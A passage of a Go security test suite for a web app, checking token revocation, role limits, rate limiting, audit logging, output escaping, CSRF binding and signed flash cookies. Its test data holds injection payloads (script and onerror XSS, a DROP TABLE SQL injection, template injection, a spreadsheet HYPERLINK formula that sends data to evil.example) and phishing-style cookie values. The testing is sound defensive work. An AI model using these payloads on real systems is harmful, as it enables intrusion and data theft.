		if !strings.HasPrefix(secret, tok.Prefix) || len(tok.Prefix) > 12 || bytes.Contains(tok.Hash, []byte(secret)) {
			t.Errorf("token %s: the store keeps more than a short prefix of the secret (%q)", tok.Name, tok.Prefix)
		}
		if resp, _ := e.postForm(admin, "/settings/tokens", fmt.Sprintf("/settings/tokens/%d/revoke", tok.ID), nil); resp.StatusCode != http.StatusSeeOther {
			t.Fatalf("revoke %s: %d", tok.Name, resp.StatusCode)
		}
	}
	for _, r := range e.server.Routes() {
		if !tokenRoute(r.Path) || !strings.Contains("GET POST PUT PATCH DELETE", r.Method) {
			continue
		}
		for sc, s := range secrets {
			code, h, body := apiDo(t, e, r.Method, concrete(r.Path), s, "")
			if code != http.StatusUnauthorized || apiErrorCode(body) != domain.EUNAUTHORIZED || !strings.Contains(h.Get("WWW-Authenticate"), "invalid_token") {
				t.Errorf("%s %s with the revoked %s token: %d %s", r.Method, r.Path, sc, code, body)
			}
		}
	}

	logged := log.String()
	if !strings.Contains(logged, "/api/v1/token") || !strings.Contains(logged, "sign-in failed") {
		t.Fatalf("the log was not captured:\n%.2000s", logged)
	}
	secretsToHide := map[string]string{"password": testPassword, "wrong password": wrongPassword, "generated password": password,
		"session": e.sessionOf(admin), "CSRF token": e.csrfOf(admin)}
	for sc, s := range secrets {
		secretsToHide[string(sc)+" token"] = s
	}
	for what, s := range secretsToHide {
		if strings.Contains(logged, s) {
			t.Errorf("the %s reached the log", what)
		}
	}
}

// An editor's session is refused every admin form, walked from the
// router, and changes nothing; so is a viewer's every editor form (the
// walk in routes_test.go sends viewers empty forms; these are valid ones).
func TestRolesBelowTheRouteChangeNothing(t *testing.T) {
	e := newEnv(t, false)
	changes, _ := seedChanges(t, e)
	checkCoversEveryPost(t, e, changes)
	e.user("viewer@example.com", domain.RoleViewer)
	editor, viewer := e.signIn("editor@example.com"), e.signIn("viewer@example.com")
	below := map[string]*http.Client{"admin@example.com": editor, "editor@example.com": viewer}
	tokens := map[*http.Client]string{editor: e.csrfOf(editor), viewer: e.csrfOf(viewer)}
	admin := 0
	for _, ch := range changes {
		c := below[ch.who]
		if c == nil {
			continue // API changes: their scopes are walked in TestAPITokensAreScopedRevocableAndNeverShownAgain
		}
		if ch.who == "admin@example.com" {
			admin++
		}
		before := snapshot(t, e)
		if resp, _ := e.post(c, ch.path, withCSRF(ch.form, tokens[c]), nil); resp.StatusCode != http.StatusForbidden {
			t.Errorf("%s by a lower role: %d; want 403", ch.route, resp.StatusCode)
		}
		if snapshot(t, e) != before {
			t.Errorf("%s by a lower role changed data", ch.route)
		}
	}
	if admin < 6 {
		t.Errorf("only %d admin forms walked", admin)
	}
}

// The sign-in limit counts the client's address: a client that writes a new
// X-Forwarded-For each time is still limited, whether or not the server
// trusts a proxy (behind one, the address the proxy appended counts).
func TestSignInLimitIgnoresForgedForwardedFor(t *testing.T) {
	for _, trust := range []bool{false, true} {
		t.Run("trust-proxy="+strconv.FormatBool(trust), func(t *testing.T) {
			e := newEnvWith(t, envOptions{config: func(c *web.Config) { c.TrustProxy = trust }})
			e.user("a@example.com", domain.RoleViewer)
			c := e.client()
			_, page := e.get(c, "/signin")
			token, _ := page.Find(`input[name="_csrf"]`).Attr("value")
			limited := false
			for i := 0; i < 12 && !limited; i++ {
				forwarded := "198.51.100." + strconv.Itoa(i)
				if trust {
					forwarded += ", 203.0.113.9" // what the proxy saw
				}
				// A new account each time: the address's limit, not an account's.
				resp, doc := e.post(c, "/signin", url.Values{"_csrf": {token}, "email": {"a" + strconv.Itoa(i) + "@example.com"}, "password": {"guess " + strconv.Itoa(i)}},
					http.Header{"X-Forwarded-For": {forwarded}})
				limited = resp.StatusCode == http.StatusTooManyRequests && strings.Contains(doc.Find(`[data-testid="signin-error"]`).Text(), "from your address")
			}
			if !limited {
				t.Fatal("12 guesses with a new X-Forwarded-For each were never rate limited")
			}
		})
	}
}

// Every state-changing route, walked from the router, leaves an audit
// entry naming who did it and what it was. The few that need not are in
// unaudited, each with its reason.
func TestEveryChangeIsAudited(t *testing.T) {
	e := newEnv(t, false)
	changes, secret := seedChanges(t, e)
	checkCoversEveryPost(t, e, changes)
	clients := map[string]*http.Client{}
	ctx := context.Background()
	for _, ch := range changes {
		last, err := e.store.AuditLog(ctx, 1)
		if err != nil {
			t.Fatal(err)
		}
		var code int
		if strings.HasPrefix(ch.path, "/api/") {
			code, _, _ = apiDo(t, e, http.MethodPost, ch.path, secret, ch.body)
		} else {
			if clients[ch.who] == nil {
				clients[ch.who] = e.signIn(ch.who)
			}
			resp, _ := e.postForm(clients[ch.who], "/", ch.path, ch.form)
			code = resp.StatusCode
		}
		if code >= 400 {
			t.Errorf("%s: %d", ch.route, code)
			continue
		}
		log, err := e.store.AuditLog(ctx, 10)
		if err != nil {
			t.Fatal(err)
		}
		var fresh []domain.AuditEntry
		for _, a := range log {
			if slices.Contains(alsoAudited[ch.route], a.Action) {
				continue
			}
			if len(last) == 0 || a.ID > last[0].ID {
				fresh = append(fresh, a)
			}
		}
		if len(fresh) != 1 || fresh[0].Actor != ch.who || fresh[0].Action != ch.action ||
			!strings.Contains(fresh[0].Target+" "+fresh[0].Detail, ch.names) {
			t.Errorf("%s: audit entries %+v; want one %s of %q by %s", ch.route, fresh, ch.action, ch.names, ch.who)
		}
	}

	// The audit page shows them to admins.
	_, doc := e.get(e.signIn("admin@example.com"), "/settings/audit")
	text := doc.Find(`[data-testid="audit-table"]`).Text()
	for _, want := range []string{"service.team", "slo.import", "token:" + securityToken, "editor@example.com"} {
		if !strings.Contains(text, want) {
			t.Errorf("audit page lacks %q", want)
		}
	}
}

// hostileText is stored through every way in and must come back as text.
var hostileText = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`' OR 1=1 --`,
	`'); DROP TABLE events; --`,
	`{{.}} ${7*7} <%= 7*7 %>`,
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	// The page cache's placeholders of old, which it filled wherever they
	// stood, titles included, with the viewer's CSRF token and nonce.
	`__TL_CSRF_PLACEHOLDER__ __TL_NONCE_PLACEHOLDER__`,
}

// storingGateway decodes posted events and stores them at once: the path
// of POST /api/v1/events with JetStream and the consumer left out.
func storingGateway(store *sqlstore.Store) web.EventGateway {
	dec, err := cdevents.NewDecoder("")
	if err != nil {
		panic(err)
	}
	var seq atomic.Uint64
	return gatewayFunc(func(ctx context.Context, h http.Header, body []byte) ([]web.EventResult, error) {
		_, ev, err := dec.DecodeMessage(cdevents.Header(h), body)
		if err != nil {
			return []web.EventResult{{Reason: domain.ErrorCode(err), Message: err.Error()}}, nil
		}
		if _, err := store.StoreEvents(ctx, []domain.EventRecord{{Event: ev, Raw: body, StreamSeq: seq.Add(1)}}); err != nil {
			return nil, err
		}
		return []web.EventResult{{ID: ev.ID, Source: ev.Source, Accepted: true}}, nil
	})
}

// Hostile text goes in through the forms, the event API and query
// parameters, on SQLite and (with THROUGHLINE_TEST_POSTGRES) PostgreSQL:
// pages show it escaped, the JSON API returns it as it was, CSV cells that
// a spreadsheet would run are defused, filters match it exactly (no SQL
// injection), and the database keeps its tables and data.
func TestHostileTextIsStoredAndShownLiterally(t *testing.T) {
	for _, d := range []sqlstore.Dialect{sqlstore.SQLite, sqlstore.Postgres} {
		t.Run(string(d), func(t *testing.T) { testHostileText(t, d) })
	}
}

func testHostileText(t *testing.T, dialect sqlstore.Dialect) {
	e := newEnvWith(t, envOptions{dialect: dialect, events: storingGateway})
	ctx := context.Background()
	e.user("admin@example.com", domain.RoleAdmin)
	admin := e.signIn("admin@example.com")
	_, ingest, err := e.store.CreateToken(ctx, "ci", []domain.Scope{domain.ScopeIngest, domain.ScopeRead})
	if err != nil {
		t.Fatal(err)
	}
	ok := func(what string, resp *http.Response, doc *goquery.Document) {
		t.Helper()
		if resp.StatusCode >= 400 {
			t.Fatalf("%s: %d %s", what, resp.StatusCode, doc.Find(`[data-testid="error-page"], [data-testid="form-errors"], .field-error`).Text())
		}
	}

	// In through the event API: services and teams named by producers.
	for i, h := range hostileText {
		ce, err := cdevents.FromEvent(domain.Event{Identity: domain.Identity{Source: "/cd", ID: "hostile-" + strconv.Itoa(i)},
			Kind: domain.KindServiceDeployed, Time: time.Now().Add(-time.Duration(i+1) * time.Hour).UTC(), Service: h, Team: h,
			Environment: "production", Artifact: "pkg:oci/" + strconv.Itoa(i)})
		if err != nil {
			t.Fatal(err)
		}
		body, err := cdevents.EncodeStructured(ce)
		if err != nil {
			t.Fatal(err)
		}
		code, _, answer := apiDo(t, e, http.MethodPost, "/api/v1/events", ingest, string(body))
		if code != http.StatusAccepted {
			t.Fatalf("POST /api/v1/events with service %q: %d %s", h, code, answer)
		}
	}
	// The services page offers an SLO for each service, by its exact name.
	resp, doc := e.get(admin, "/services")
	ok("services", resp, doc)
	offered := map[string]bool{}
	doc.Find(`a[href^="/slos/new?"]`).Each(func(_ int, a *goquery.Selection) {
		if u, err := url.Parse(a.AttrOr("href", "")); err == nil {
			offered[u.Query().Get("service")] = true
		}
	})
	for _, h := range hostileText {
		if !offered[h] {
			t.Errorf("/services offers no SLO for service %q: %v", h, offered)
		}
	}
	// In through the forms.
	var streamIDs []int64
	for i, h := range hostileText {
		n := strconv.Itoa(i + 1)
		resp, doc := e.postForm(admin, "/ideas/new", "/ideas", url.Values{"key": {"HOS-" + n}, "title": {h}, "problem": {h}, "hypothesis": {h},
			"team": {h}, "services": {h}, "horizon": {"now"}, "flow_type": {"feature"}})
		ok("idea "+n, resp, doc)
		resp, doc = e.postForm(admin, "/outcomes", "/outcomes/objectives", url.Values{"title": {h}, "description": {h}})
		ok("objective "+n, resp, doc)
		f := streamForm(h)
		f.Set("description", h)
		f.Set("teams", h)
		resp, doc = e.postForm(admin, "/value-streams/new", "/value-streams", f)
		ok("value stream "+n, resp, doc)
		id, _ := strconv.ParseInt(strings.TrimPrefix(resp.Header.Get("Location"), "/value-streams/"), 10, 64)
		streamIDs = append(streamIDs, id)
		resp, doc = e.postForm(admin, "/slos/new", "/slos", url.Values{"name": {"hostile-" + n}, "display_name": {h}, "description": {h},
			"service": {h}, "good_metric": {h}, "total_metric": {h + " total"}, "target": {"99.9"}, "window": {"28"}})
		ok("SLO "+n, resp, doc)
		resp, doc = e.postForm(admin, "/services", "/services/team", url.Values{"service": {h}, "team": {h + " squad"}})
		ok("team "+n, resp, doc)
		resp, doc = e.postForm(admin, "/settings/tokens", "/settings/tokens", url.Values{"name": {h}, "scope": {"read"}})
		ok("token "+n, resp, doc)
		resp, doc = e.postForm(admin, "/dora", "/dora/override", url.Values{"source": {"/cd"}, "id": {"hostile-" + strconv.Itoa(i)}, "verdict": {"failed"}, "reason": {h}})
		ok("override "+n, resp, doc)
	}
	objs, _ := e.store.Objectives(ctx)
	resp, doc = e.postForm(admin, "/outcomes", "/outcomes/key-results", url.Values{"objective": {strconv.FormatInt(objs[0].ID, 10)},
		"title": {hostileText[0]}, "metric": {hostileText[1]}, "attributes": {"route=" + hostileText[3]}, "baseline": {"1"}, "target": {"2"}, "direction": {"increase"}})
	ok("key result", resp, doc)

	// Pages: stored text and hostile query parameters and paths.
	q := func(s string) string { return url.QueryEscape(s) }
	p := func(s string) string { return url.PathEscape(s) }
	pages := []string{"/", "/roadmap", "/outcomes", "/value-streams", "/services", "/dora", "/trends", "/slos", "/slos/new",
		"/trends?compare=team", "/trends?compare=service", "/trends?compare=stream", "/ideas/HOS-1", "/ideas/HOS-1/edit",
		"/settings/tokens", "/settings/users", "/settings/audit", "/settings/ingest"}
	for _, id := range streamIDs {
		pages = append(pages, fmt.Sprintf("/value-streams/%d", id), fmt.Sprintf("/value-streams/%d/edit", id))
	}
	slos, _ := e.store.SLOs(ctx)
	for _, s := range slos {
		pages = append(pages, fmt.Sprintf("/slos/%d", s.ID), fmt.Sprintf("/slos/%d/edit", s.ID))
	}
	for _, h := range hostileText {
		pages = append(pages, "/dora?service="+q(h), "/dora?team="+q(h), "/trends?service="+q(h)+"&team="+q(h),
			"/trends?compare="+q(h), "/roadmap?team="+q(h), "/ideas/"+p(h), "/ideas/"+p(h)+"/edit", "/value-streams/"+p(h),
			"/slos/"+p(h), "/slos?yaml="+q(h), "/slos/new?service="+q(h), "/events/view?source="+q(h)+"&id="+q(h),
			"/signin?next="+q(h), "/no-such/"+p(h))
	}
	visitor := e.client()
	_, signInPage := e.get(visitor, "/signin")
	visitorToken, _ := signInPage.Find(`input[name="_csrf"]`).Attr("value")
	adminToken := e.csrfOf(admin)
	for _, h := range hostileText {
		checkEscaped(t, e, visitor, http.MethodGet, "/signin?next="+q(h), nil)
		checkEscaped(t, e, visitor, http.MethodPost, "/signin", url.Values{"_csrf": {visitorToken}, "email": {h}, "password": {h}, "next": {h}})
	}
	for _, page := range pages {
		checkEscaped(t, e, admin, http.MethodGet, page, nil)
	}
	// Forms that refuse hostile input show it back, escaped.
	for _, h := range hostileText {
		checkEscaped(t, e, admin, http.MethodPost, "/settings/users", url.Values{"_csrf": {adminToken}, "email": {h}, "role": {h}})
		checkEscaped(t, e, admin, http.MethodPost, "/ideas", url.Values{"_csrf": {adminToken}, "key": {h}, "title": {h}, "reach": {h}, "horizon": {h}, "flow_type": {h}})
		checkEscaped(t, e, admin, http.MethodPost, "/slos/import", url.Values{"_csrf": {adminToken}, "yaml": {h}})
		checkEscaped(t, e, admin, http.MethodPost, "/slos", url.Values{"_csrf": {adminToken}, "name": {h}, "display_name": {h}, "service": {h}, "target": {h}})
		checkEscaped(t, e, admin, http.MethodPost, "/outcomes/key-results", url.Values{"_csrf": {adminToken}, "title": {h}, "metric": {h}, "attributes": {h}, "baseline": {h}})
		checkEscaped(t, e, admin, http.MethodPost, "/value-streams", url.Values{"_csrf": {adminToken}, "name": {h}, "stage.0.name": {h}, "stage.0.rule": {h}, "stage.0.wip_limit": {h}})
	}
	// The text is there, as typed.
	for page, sel := range map[string]string{"/roadmap": "main", "/services": `[data-testid="services-table"]`, "/value-streams": "main",
		"/outcomes": "main", "/settings/tokens": `[data-testid="tokens-table"]`} {
		_, doc := e.get(admin, page)
		text := doc.Find(sel).Text()
		for _, h := range hostileText {
			if !strings.Contains(text, h) {
				t.Errorf("%s does not show %q as text", page, h)
			}
		}
	}

	// The JSON API returns the text as it was, and filters match it exactly.
	read := ingest
	var ideas struct {
		Ideas []struct{ Key, Title, Team string } `json:"ideas"`
	}
	getJSON(t, e, "/api/v1/ideas", read, &ideas)
	titles := map[string]bool{}
	for _, i := range ideas.Ideas {
		titles[i.Title] = true
	}
	var streams struct {
		ValueStreams []struct{ Name, Description string } `json:"value_streams"`
	}
	getJSON(t, e, "/api/v1/value-streams", read, &streams)
	names := map[string]bool{}
	for _, s := range streams.ValueStreams {
		names[s.Name] = s.Description == s.Name
	}
	var sloList struct {
		SLOs []struct {
			DisplayName string `json:"display_name"`
		} `json:"slos"`
	}
	getJSON(t, e, "/api/v1/slos", read, &sloList)
	sloNames := map[string]bool{}
	for _, s := range sloList.SLOs {
		sloNames[s.DisplayName] = true
	}
	for _, h := range hostileText {
		if !titles[h] || !names[h] || !sloNames[h] {
			t.Errorf("%q: idea title %v, value stream %v, SLO %v in the JSON API", h, titles[h], names[h], sloNames[h])
		}
		var ideasOfTeam struct {
			Ideas []struct{ Key, Team string } `json:"ideas"`
		}
		getJSON(t, e, "/api/v1/ideas?team="+q(h), read, &ideasOfTeam)
		if len(ideasOfTeam.Ideas) != 1 || ideasOfTeam.Ideas[0].Team != h {
			t.Errorf("ideas of team %q: %+v; want exactly the one with that team", h, ideasOfTeam.Ideas)
		}
		var deps struct {
			Deployments []struct{ ID, Service, Team string } `json:"deployments"`
		}
		getJSON(t, e, "/api/v1/deployments?service="+q(h), read, &deps)
		if len(deps.Deployments) != 1 || deps.Deployments[0].Service != h || deps.Deployments[0].Team != h+" squad" {
			t.Errorf("deployments of service %q: %+v; want exactly its one, with its team", h, deps.Deployments)
		}
		for _, path := range []string{"/api/v1/dora?service=" + q(h) + "&team=" + q(h), "/api/v1/ideas/" + p(h), "/api/v1/metrics/" + p(h) + "?attr." + q(h) + "=" + q(h),
			"/api/v1/value-streams/" + p(h), "/api/v1/slos/" + p(h), "/api/v1/events/view?source=" + q(h) + "&id=" + q(h), "/api/v1/incidents?team=" + q(h)} {
			code, hdr, body := apiDo(t, e, http.MethodGet, path, read, "")
			if code >= 500 || !strings.HasPrefix(hdr.Get("Content-Type"), "application/json") || !json.Valid([]byte(body)) {
				t.Errorf("GET %s: %d %s %.300s", path, code, hdr.Get("Content-Type"), body)
			}
		}
	}

	// CSV: every table of the trends page, compared by team and by service.
	for _, page := range []string{"/trends?compare=team", "/trends?compare=service", "/trends"} {
		_, doc := e.get(admin, page)
		links := doc.Find(`a.csv-link`)
		if links.Length() == 0 {
			t.Fatalf("%s has no CSV links", page)
		}
		links.Each(func(_ int, a *goquery.Selection) {
			href, _ := a.Attr("href")
			resp, err := admin.Get(e.srv.URL + href)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			rows, err := csv.NewReader(resp.Body).ReadAll()
			if err != nil || resp.StatusCode != http.StatusOK {
				t.Fatalf("GET %s: %d %v", href, resp.StatusCode, err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						if _, err := strconv.ParseFloat(cell, 64); err != nil {
							t.Errorf("%s: cell %q would run as a formula", href, cell)
						}
					}
				}
			}
		})
	}

	// The database still has its tables and everything in them.
	if err := e.store.Ping(ctx); err != nil {
		t.Fatal(err)
	}
	for i := range hostileText {
		if _, err := e.store.Event(ctx, domain.Identity{Source: "/cd", ID: "hostile-" + strconv.Itoa(i)}); err != nil {
			t.Errorf("event %d: %v", i, err)
		}
	}
	all, err := e.store.Ideas(ctx, domain.IdeaFilter{IncludeArchived: true})
	if err != nil || len(all) != len(hostileText) {
		t.Errorf("ideas after the hostile input: %d, %v", len(all), err)
	}
	if users, err := e.store.Users(ctx); err != nil || len(users) != 1 {
		t.Errorf("users after the hostile input: %d, %v", len(users), err)
	}
	if log, err := e.store.AuditLog(ctx, 1000); err != nil || len(log) < 7*len(hostileText) {
		t.Errorf("audit log after the hostile input: %d entries, %v", len(log), err)
	}
}

// getJSON reads a JSON API answer into v.
func getJSON(t *testing.T, e *env, path, token string, v any) {
	t.Helper()
	code, _, body := apiDo(t, e, http.MethodGet, path, token, "")
	if code != http.StatusOK {
		t.Fatalf("GET %s: %d %s", path, code, body)
	}
	if err := json.Unmarshal([]byte(body), v); err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
}

// checkEscaped sends a request as a browser and fails if the page that
// comes back carries markup from hostileText: the raw tags, an element with
// an event handler, or a script the server did not write.
func checkEscaped(t *testing.T, e *env, c *http.Client, method, path string, form url.Values) {
	t.Helper()
	what := method + " " + path
	req, _ := http.NewRequest(method, e.srv.URL+path, strings.NewReader(form.Encode()))
	if method == http.MethodPost {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	if resp.StatusCode >= 500 {
		t.Errorf("%s: %d", what, resp.StatusCode)
		return
	}
	if ct := resp.Header.Get("Content-Type"); resp.StatusCode < 300 && !strings.HasPrefix(ct, "text/html") {
		t.Errorf("%s: content type %q", what, ct)
	}
	for _, h := range hostileText {
		if strings.ContainsAny(h, `<>"'`) && bytes.Contains(raw, []byte(h)) {
			t.Errorf("%s: %q is in the page unescaped", what, h)
		}
	}
	doc, err := goquery.NewDocumentFromReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	if n := doc.Find("[onerror], img[src='x']").Length(); n > 0 {
		t.Errorf("%s: %d injected elements", what, n)
	}
	// The request's CSRF token and nonce belong in attributes, never in
	// the text, where they would show if text were filled in as a template.
	_, nonce, _ := strings.Cut(resp.Header.Get("Content-Security-Policy"), "'nonce-")
	nonce, _, _ = strings.Cut(nonce, "'")
	token, _ := doc.Find(`input[name="_csrf"]`).First().Attr("value")
	for _, secret := range []string{nonce, token} {
		if secret != "" && strings.Contains(doc.Text(), secret) {
			t.Errorf("%s: the page's text holds its CSRF token or CSP nonce %q", what, secret)
		}
	}
	doc.Find("script").Each(func(_ int, s *goquery.Selection) {
		if src, _ := s.Attr("src"); !strings.HasPrefix(src, "/assets/") {
			t.Errorf("%s: a script the server did not write: %q", what, s.Text())
		}
	})
}

// signInFrom signs in in a new browser and returns it with the CSRF token
// its sign-in page carried.
func (e *env) signInFrom(email string) (*http.Client, string) {
	e.t.Helper()
	c := e.client()
	_, page := e.get(c, "/signin")
	token, _ := page.Find(`input[name="_csrf"]`).Attr("value")
	resp, _ := e.post(c, "/signin", url.Values{"_csrf": {token}, "email": {email}, "password": {testPassword}}, nil)
	if resp.StatusCode != http.StatusSeeOther {
		e.t.Fatalf("sign-in as %s: %d", email, resp.StatusCode)
	}
	return c, token
}

// The CSRF token is bound to the session: sign-in brings a new one, as does
// sign-out, each session of one account has its own, and a token works
// only in the session it was given to. htmx's header carries it as well as
// the form field does; the query string does not.
func TestCSRFTokenIsBoundToTheSession(t *testing.T) {
	e := newEnv(t, false)
	e.user("admin@example.com", domain.RoleAdmin)
	ctx := context.Background()
	tokens := func() int {
		toks, err := e.store.Tokens(ctx)
		if err != nil {
			t.Fatal(err)
		}
		return len(toks)
	}
	create := func(c *http.Client, target string, form url.Values, header http.Header) int {
		t.Helper()
		n := tokens()
		resp, _ := e.post(c, target, form, header)
		if created := tokens() - n; (resp.StatusCode == http.StatusCreated) != (created == 1) {
			t.Fatalf("POST %s: %d, %d tokens created", target, resp.StatusCode, created)
		}
		return resp.StatusCode
	}
	name := func(n string) url.Values { return url.Values{"name": {n}, "scope": {"read"}} }

	a, visitor := e.signInFrom("admin@example.com")
	inA := e.csrfOf(a)
	b, _ := e.signInFrom("admin@example.com")
	inB := e.csrfOf(b)
	if inA == visitor || inA == inB {
		t.Fatalf("tokens: before sign-in %q, session A %q, session B %q; want three different", visitor, inA, inB)
	}
	for _, tc := range []struct {
		name   string
		c      *http.Client
		target string
		form   url.Values
		header http.Header
		want   int
	}{
		{"A's token in A", a, "/settings/tokens", withCSRF(name("a1"), inA), nil, http.StatusCreated},
		{"A's token as htmx's header in A", a, "/settings/tokens", name("a2"), http.Header{"X-Csrf-Token": {inA}}, http.StatusCreated},
		{"B's token in A", a, "/settings/tokens", withCSRF(name("x1"), inB), nil, http.StatusForbidden},
		{"A's token in B", b, "/settings/tokens", withCSRF(name("x2"), inA), nil, http.StatusForbidden},
		{"A's token from before sign-in in A", a, "/settings/tokens", withCSRF(name("x3"), visitor), nil, http.StatusForbidden},
		{"A's token in A's query string", a, "/settings/tokens?_csrf=" + url.QueryEscape(inA), name("x4"), nil, http.StatusForbidden},
	} {
		if got := create(tc.c, tc.target, tc.form, tc.header); got != tc.want {
			t.Errorf("%s: %d; want %d", tc.name, got, tc.want)
		}
	}

	// Sign-out: the session's token dies with it, and the sign-in page
	// after it carries a token unlike any before.
	if resp, _ := e.post(a, "/signout", withCSRF(nil, inA), nil); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("sign-out: %d", resp.StatusCode)
	}
	_, page := e.get(a, "/signin")
	after, _ := page.Find(`input[name="_csrf"]`).Attr("value")
	if after == "" || after == visitor || after == inA {
		t.Fatalf("token after sign-out %q; before sign-in it was %q, signed in %q", after, visitor, inA)
	}
	for _, old := range []string{visitor, inA} {
		resp, _ := e.post(a, "/signin", url.Values{"_csrf": {old}, "email": {"admin@example.com"}, "password": {testPassword}}, nil)
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("sign-in with a token from before sign-out: %d; want 403", resp.StatusCode)
		}
	}
	if resp, _ := e.post(a, "/signin", url.Values{"_csrf": {after}, "email": {"admin@example.com"}, "password": {testPassword}}, nil); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("sign-in with the new token: %d", resp.StatusCode)
	}
	if again := e.csrfOf(a); again == inA {
		t.Error("signing in again brought back the old session's token")
	}
}

// The flash cookie is signed with the server's key: a message changed in
// the cookie, one written by hand in the old unsigned form, or one signed
// by another server is not shown, and the cookie is cleared all the same.
func TestFlashCookieIsSigned(t *testing.T) {
	e := newEnv(t, false)
	e.user("editor@example.com", domain.RoleEditor)
	c := e.signIn("editor@example.com")
	resp, _ := e.postForm(c, "/outcomes", "/outcomes/objectives", url.Values{"title": {"Search finds"}})
	var flash *http.Cookie
	for _, ck := range resp.Cookies() {
		if ck.Name == "throughline_flash" {
			flash = ck
		}
	}
	if resp.StatusCode != http.StatusSeeOther || flash == nil {
		t.Fatalf("creating an objective: %d, no flash cookie", resp.StatusCode)
	}
	session := e.sessionOf(c)
	shown := func(value string) (string, bool) {
		t.Helper()
		req, _ := http.NewRequest(http.MethodGet, e.srv.URL+"/outcomes", nil)
		req.Header.Set("Cookie", "throughline_session="+session+"; throughline_flash="+value)
		resp, err := e.client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		cleared := false
		for _, ck := range resp.Cookies() {
			cleared = cleared || (ck.Name == "throughline_flash" && ck.MaxAge < 0)
		}
		if !cleared {
			t.Errorf("flash %q was not cleared", value)
		}
		doc, _ := goquery.NewDocumentFromReader(resp.Body)
		return doc.Find(`main .alert[role="status"]`).Text(), resp.StatusCode == http.StatusOK
	}
	if msg, ok := shown(flash.Value); !ok || !strings.Contains(msg, "Objective added") {
		t.Fatalf("the server's own flash: %q", msg)
	}
	sig, payload, _ := strings.Cut(flash.Value, ".")
	other := newEnv(t, false) // another server, another key
	other.user("editor@example.com", domain.RoleEditor)
	oc := other.signIn("editor@example.com")
	resp, _ = other.postForm(oc, "/outcomes", "/outcomes/objectives", url.Values{"title": {"Search finds"}})
	var foreign string
	for _, ck := range resp.Cookies() {
		if ck.Name == "throughline_flash" {
			foreign = ck.Value
		}
	}
	for name, value := range map[string]string{
		"message changed":            sig + "." + strings.Replace(payload, "Objective", "Visit+evil.example%3A+your", 1),
		"kind changed":               sig + "." + strings.Replace(payload, "success", "error", 1),
		"unsigned, as it used to be": url.QueryEscape("error|Your session expired: sign in at evil.example"),
		"signature only":             sig,
		"empty signature":            "." + payload,
		"another server's":           foreign,
	} {
		if msg, ok := shown(value); !ok || msg != "" {
			t.Errorf("%s: shown %q (page ok %v)", name, msg, ok)
		}
	}
}
